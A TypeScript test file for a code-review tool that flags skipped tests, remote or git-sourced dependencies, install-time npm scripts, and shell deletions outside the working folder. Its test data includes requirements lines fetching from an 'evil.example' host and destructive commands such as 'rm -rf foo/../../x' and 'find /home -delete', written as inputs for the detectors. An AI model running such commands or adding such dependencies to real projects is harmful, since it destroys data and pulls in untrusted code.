import { describe, expect, it } from "vitest";
import { coverageIn } from "../../../src/core/critics/coverage.ts";
import { dependencyDangers, installDanger } from "../../../src/core/critics/dependencies.ts";
import { type Line, linesOfDiff } from "../../../src/core/critics/lines.ts";
import { scriptDanger, shellDanger } from "../../../src/core/critics/shell.ts";
import { removedTests, skippedTests } from "../../../src/core/critics/tests.ts";

/** Forms of skipped tests, foreign code and deletion that are less usual, and honest ones beside them. */

const line = (path: string, text: string, number = 1): Line => ({ path, number, text });
const nothing = { added: [], removed: [], moved: [] };

describe("a skipped test", () => {
  it.each([
    ["a.spec.ts", 'test.describe.skip("prices", () => {'],
    ["a.spec.ts", 'test.describe.only("prices", () => {'],
    ["a.spec.ts", 'test.describe.fixme("prices", () => {'],
    ["a.spec.ts", 'test.describe.parallel.only("prices", () => {'],
    ["a.test.js", 'describe.each([1]).skip("prices", () => {'],
    ["a.test.js", "const it = test.skip;"],
    ["a.test.js", 'if (false) it("adds", () => {'],
    ["test_a.py", '@pytest.mark.skipif(1, reason="later")'],
    ["test_a.py", '@unittest.skipUnless(0, "later")'],
    ["tests/a.rs", "#[cfg_attr(all(), ignore)]"],
    ["tests/a.rs", "#[cfg_attr(test, ignore)]"],
    ["a_test.go", '\tb.Skip("later")'],
  ])("of %s is told: %s", (path, text) => {
    expect(skippedTests({ added: [line(path, text)] })).toHaveLength(1);
  });

  it.each([
    ["a.spec.ts", 'test.describe.parallel("prices", () => {'],
    ["a.test.js", 'describe.each([1])("prices", () => {'],
    ["a.test.js", "const run = process.env.CI ? test : test.skip;"],
    ["test_a.py", '@pytest.mark.skipif(sys.version_info < (3, 9), reason="no")'],
    ["tests/a.rs", "#[cfg_attr(windows, ignore)]"],
  ])("of %s depends on a machine or runs: %s", (path, text) => {
    expect(skippedTests({ added: [line(path, text)] })).toEqual([]);
  });
});

it("two removed tests of one name are not both written again by one", () => {
  const removed = [line("a.test.ts", 'it("works", () => {', 3), line("a.test.ts", 'it("works", () => {', 9)];
  const added = [line("a.test.ts", 'it("works", () => {', 3)];
  expect(removedTests({ ...nothing, removed, added })).toHaveLength(1);
  expect(removedTests({ ...nothing, removed, added: [...added, line("b.test.ts", 'it("works", () => {')] })).toEqual(
    [],
  );
});

describe("code from elsewhere", () => {
  it.each([
    "-r https://evil.example/r.txt",
    "-c https://evil.example/c.txt",
    "--requirement=https://evil.example/r.txt",
  ])("in requirements: %s", (text) => {
    expect(dependencyDangers({ added: [line("requirements.txt", text)], removed: [] }).size).toBe(1);
  });

  it.each(["npm install github:someone/pad", "npm i someone/pad", "pnpm add someone/pad#main", "npm i -D someone/pad"])(
    "in a command: %s",
    (command) => {
      expect(installDanger(command)).not.toBeNull();
    },
  );

  it("in a script that npm runs by itself", () => {
    const script = '{\n  "scripts": {\n    "dependencies": "node x.js"\n  }\n}'.split("\n");
    const added = script.map((text, index) => line("package.json", text, index + 1));
    expect([...dependencyDangers({ added, removed: [] }).values()]).toEqual(["runs by itself when it is installed"]);
  });

  it.each([
    "npm install",
    "npm ci --prefix packages/shop",
    "npm install @scope/pad left-pad@1",
    "npm install ./packages/pad ../pad.tgz",
    "pip install -r requirements/dev.txt",
    "yarn add --cwd packages/shop left-pad",
  ])("is not in %s", (command) => {
    expect(installDanger(command)).toBeNull();
  });

  it.each(["-r dev.txt", "-c constraints.txt", "pytest==8.0"])("is not in the line %s of requirements", (text) => {
    expect(dependencyDangers({ added: [line("requirements.txt", text)], removed: [] }).size).toBe(0);
  });

  it("is not in the list of packages of a manifest", () => {
    const added = '{\n  "dependencies": {\n    "left-pad": "^1.0.0"\n  }\n}'
      .split("\n")
      .map((text, at) => line("package.json", text, at + 1));
    expect(dependencyDangers({ added, removed: [] }).size).toBe(0);
  });
});

describe("deletion outside of the folder", () => {
  it.each([
    "rm -rf foo/../../x",
    "rm -rf ./../../other",
    'rm -r "a/../../b"',
    "find /home -delete",
    "find .. -delete",
    "find ../other -name x -exec rm {} +",
    "find . /srv -type f -delete",
  ])("is told of %s", (command) => {
    expect(shellDanger(command)).toBe("deletes outside of its folder");
  });

  it.each([
    "rm -rf build/../dist",
    "rm -rf $DIR/../x",
    "find . -name '*.tmp' -delete",
    "find dist -type f -exec rm {} +",
    "find /tmp/shop -delete",
    "find . -maxdepth 1",
  ])("is not in %s", (command) => {
    expect(shellDanger(command)).toBeNull();
  });

  it("is the image's own in an image", () => {
    expect(scriptDanger("find /usr/lib -name '*.a' -delete", true)).toBeNull();
  });
});

it("a file of a diff has its name without git's quotes", () => {
  const diff =
    '--- "a/src/\\303\\244 \\"x\\".ts"\n+++ "b/src/\\303\\244 \\"x\\".ts"\n@@ -1 +1 @@\n-const a = 1;\n+const a = 2;\n';
  expect(linesOfDiff(diff).added[0]?.path).toBe('src/ä "x".ts');
});

it("a report of Cobertura in single quotes is read", () => {
  expect(coverageIn("coverage.xml", "<coverage line-rate='0.8' branch-rate='1'>")).toBe(0.8);
});
